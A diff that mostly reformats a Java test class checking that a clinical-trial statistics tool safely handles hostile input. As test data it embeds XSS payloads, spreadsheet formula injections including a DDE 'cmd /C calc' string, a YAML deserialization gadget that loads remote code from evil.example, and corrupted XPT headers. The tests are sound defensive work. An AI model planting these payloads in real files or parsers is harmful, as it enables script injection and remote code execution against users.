@@ -57,50 +57,69 @@ class HostileInputTest {
   void scriptAndFormulaTextIsEscapedInEveryReportFile() throws IOException {
     Path dir = copyDataset();
     String statement = FORMULA + " " + SCRIPT + " | *x* `y`";
-    replace(dir.resolve("claims.yaml"),
+    replace(
+        dir.resolve("claims.yaml"),
         "statement: In the control group, 22% of the 251 patients on methotrexate alone responded.",
         "statement: '" + statement.replace("'", "''") + "'");
-    replace(dir.resolve("comparisons.yaml"),
-        "label: methotrexate alone", "label: '<img src=x onerror=alert(2)>'");
+    replace(
+        dir.resolve("comparisons.yaml"),
+        "label: methotrexate alone",
+        "label: '<img src=x onerror=alert(2)>'");
     Path out = temp.resolve("report");
 
     Cli.Run run = Cli.run("reproduce", dir.toString(), "--out", out.toString());
 
     assertThat(run.exitCode()).as(run.err()).isZero();
     String html = Files.readString(out.resolve("report.html"));
-    assertThat(html).doesNotContain(SCRIPT).doesNotContain("<img src=x")
+    assertThat(html)
+        .doesNotContain(SCRIPT)
+        .doesNotContain("<img src=x")
         .contains("&lt;script&gt;alert(1)&lt;/script&gt;");
     String md = Files.readString(out.resolve("report.md"));
     assertThat(md).doesNotContain("<script>").doesNotContain("<img src=x");
     assertNoFormulaCells(out.resolve("claims.csv"));
     assertNoFormulaCells(out.resolve("results.csv"));
-    assertThat(Files.readString(out.resolve("claims.csv"))).contains("'" + FORMULA.replace("\"",
-        "\"\""));
+    assertThat(Files.readString(out.resolve("claims.csv")))
+        .contains("'" + FORMULA.replace("\"", "\"\""));
   }
 
   @Test
   void scriptAndFormulaStudyNamesAreEscapedInMetaOutputs() throws IOException {
     Path input = temp.resolve("studies.csv");
-    Files.writeString(input, String.join("\n",
-        "study,events1,n1,events2,n2",
-        "\"" + SCRIPT + "\",4,123,11,139",
-        "\"" + FORMULA.replace("\"", "\"\"") + "\",6,306,29,303",
-        "@SUM(A1:A9),3,231,11,220",
-        "+cmd|' /C calc'!A0,62,13598,248,12867",
-        ""));
+    Files.writeString(
+        input,
+        String.join(
+            "\n",
+            "study,events1,n1,events2,n2",
+            "\"" + SCRIPT + "\",4,123,11,139",
+            "\"" + FORMULA.replace("\"", "\"\"") + "\",6,306,29,303",
+            "@SUM(A1:A9),3,231,11,220",
+            "+cmd|' /C calc'!A0,62,13598,248,12867",
+            ""));
     Path csv = temp.resolve("meta.csv");
     Path forest = temp.resolve("forest.svg");
 
-    Cli.Run run = Cli.run("meta", "--input", input.toString(), "--measure", "rr", "--format",
-        "csv", "--output", csv.toString(), "--forest", forest.toString());
+    Cli.Run run =
+        Cli.run(
+            "meta",
+            "--input",
+            input.toString(),
+            "--measure",
+            "rr",
+            "--format",
+            "csv",
+            "--output",
+            csv.toString(),
+            "--forest",
+            forest.toString());
 
     assertThat(run.exitCode()).as(run.err()).isZero();
     assertNoFormulaCells(csv);
     String svg = Files.readString(forest);
     // Chart text is drawn as glyph outlines: no label text reaches the SVG markup at all.
     assertThat(svg).doesNotContain("<script").doesNotContain("alert(1)");
-    Cli.Run json = Cli.run("meta", "--input", input.toString(), "--measure", "rr", "--format",
-        "json");
+    Cli.Run json =
+        Cli.run("meta", "--input", input.toString(), "--measure", "rr", "--format", "json");
     assertThat(json.exitCode()).isZero();
     assertThat(json.out()).contains("\"<script>alert(1)</script>\"");
   }
@@ -120,8 +139,17 @@ class HostileInputTest {
 
   @Test
   void nanInfinityAndHugeCountsAreClearDatasetErrors() throws IOException {
-    for (String bad : List.of(".nan", "NaN", ".inf", "-.inf", "Infinity", "99999999999999999999",
-        "1e400", "-1", "12.5")) {
+    for (String bad :
+        List.of(
+            ".nan",
+            "NaN",
+            ".inf",
+            "-.inf",
+            "Infinity",
+            "99999999999999999999",
+            "1e400",
+            "-1",
+            "12.5")) {
       Path dir = temp.resolve("counts-" + Math.abs(bad.hashCode()));
       Files.createDirectories(dir);
       for (String name : FILES) {
@@ -138,8 +166,9 @@ class HostileInputTest {
 
   @Test
   void nanInfinityAndHugeCountsAreClearMetaErrors() throws IOException {
-    for (String bad : List.of("NaN", "Infinity", "-Infinity", "99999999999999999999", "1e400",
-        "-1", "0x10", "1d")) {
+    for (String bad :
+        List.of(
+            "NaN", "Infinity", "-Infinity", "99999999999999999999", "1e400", "-1", "0x10", "1d")) {
       Path input = temp.resolve("studies.csv");
       Files.writeString(input, "study,events1,n1,events2,n2\nA,4," + bad + ",11,139\nB,1,2,3,4\n");
       assertThatThrownBy(() -> MetaInputReader.read(input, null))
@@ -153,8 +182,8 @@ class HostileInputTest {
   @Test
   void duplicateIdsAreReported() throws IOException {
     Path dir = copyDataset();
-    replace(dir.resolve("comparisons.yaml"),
-        "id: injection-site-reactions-cochrane", "id: acr20-24w");
+    replace(
+        dir.resolve("comparisons.yaml"), "id: injection-site-reactions-cochrane", "id: acr20-24w");
     assertThatThrownBy(() -> DatasetLoader.load(dir))
         .isInstanceOf(DatasetException.class)
         .hasMessageContaining("comparisons.yaml")
@@ -191,7 +220,8 @@ class HostileInputTest {
         .isInstanceOf(DatasetException.class)
         .hasMessageContaining("rates.yaml")
         .hasMessageContaining("symbolic link to a file outside")
-        .message().doesNotContain("do-not-echo");
+        .message()
+        .doesNotContain("do-not-echo");
   }
 
   @Test
@@ -205,7 +235,9 @@ class HostileInputTest {
   @Test
   void yamlTagsDoNotConstructObjects() throws IOException {
     Path dir = copyDataset();
-    replace(dir.resolve("dataset.yaml"), "drug: anakinra (Kineret)",
+    replace(
+        dir.resolve("dataset.yaml"),
+        "drug: anakinra (Kineret)",
         "drug: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
             + " [\"http://evil.example/\"]]]]");
     assertThatThrownBy(() -> DatasetLoader.load(dir))
@@ -217,8 +249,9 @@ class HostileInputTest {
   @Test
   void xportHeadersWithAbsurdSizesFailFast() throws IOException {
     byte[] original;
-    try (InputStream in = HostileInputTest.class.getResourceAsStream(
-        "/org/trialstats/adam/fixtures/trialstats_written.xpt")) {
+    try (InputStream in =
+        HostileInputTest.class.getResourceAsStream(
+            "/org/trialstats/adam/fixtures/trialstats_written.xpt")) {
       original = in.readAllBytes();
     }
     String text = new String(original, StandardCharsets.ISO_8859_1);
@@ -232,18 +265,20 @@ class HostileInputTest {
     hostile.add(withBytes(original, firstNamestr + 4, (byte) 0x7F, (byte) 0xFF));
     hostile.add(withBytes(original, firstNamestr + 4, (byte) 0x80, (byte) 0x00));
     // Variable position (bytes 84-87) near 2^31.
-    hostile.add(withBytes(original, firstNamestr + 84, (byte) 0x7F, (byte) 0xFF, (byte) 0xFF,
-        (byte) 0xF0));
+    hostile.add(
+        withBytes(original, firstNamestr + 84, (byte) 0x7F, (byte) 0xFF, (byte) 0xFF, (byte) 0xF0));
     for (byte[] bytes : hostile) {
       Path file = temp.resolve("hostile.xpt");
       Files.write(file, bytes);
-      assertTimeoutPreemptively(Duration.ofSeconds(5), () -> {
-        try {
-          InputFuzzTest.readEverything(file);
-        } catch (AdamDataException e) {
-          assertThat(e.getMessage()).contains("hostile.xpt");
-        }
-      });
+      assertTimeoutPreemptively(
+          Duration.ofSeconds(5),
+          () -> {
+            try {
+              InputFuzzTest.readEverything(file);
+            } catch (AdamDataException e) {
+              assertThat(e.getMessage()).contains("hostile.xpt");
+            }
+          });
     }
   }
 
@@ -252,20 +287,26 @@ class HostileInputTest {
     // Version 5 headers carry no observation count; the closest hostile header is a
     // version 8 style member header, which the reader must refuse rather than trust.
     byte[] original;
-    try (InputStream in = HostileInputTest.class.getResourceAsStream(
-        "/org/trialstats/adam/fixtures/trialstats_written.xpt")) {
+    try (InputStream in =
+        HostileInputTest.class.getResourceAsStream(
+            "/org/trialstats/adam/fixtures/trialstats_written.xpt")) {
       original = in.readAllBytes();
     }
     String text = new String(original, StandardCharsets.ISO_8859_1);
     int obs = text.indexOf("OBS     HEADER RECORD!!!!!!!");
     assertThat(obs).isPositive();
-    byte[] bytes = withAscii(original, obs - 20, "HEADER RECORD*******OBSV8   HEADER RECORD!!!!!!!"
-        + "2147483648" + " ".repeat(22));
+    byte[] bytes =
+        withAscii(
+            original,
+            obs - 20,
+            "HEADER RECORD*******OBSV8   HEADER RECORD!!!!!!!" + "2147483648" + " ".repeat(22));
     Path file = temp.resolve("obs.xpt");
     Files.write(file, bytes);
-    assertTimeoutPreemptively(Duration.ofSeconds(5), () ->
-        assertThatThrownBy(() -> InputFuzzTest.readEverything(file))
-            .isInstanceOf(AdamDataException.class));
+    assertTimeoutPreemptively(
+        Duration.ofSeconds(5),
+        () ->
+            assertThatThrownBy(() -> InputFuzzTest.readEverything(file))
+                .isInstanceOf(AdamDataException.class));
   }
 
   private static byte[] withAscii(byte[] original, int at, String ascii) {
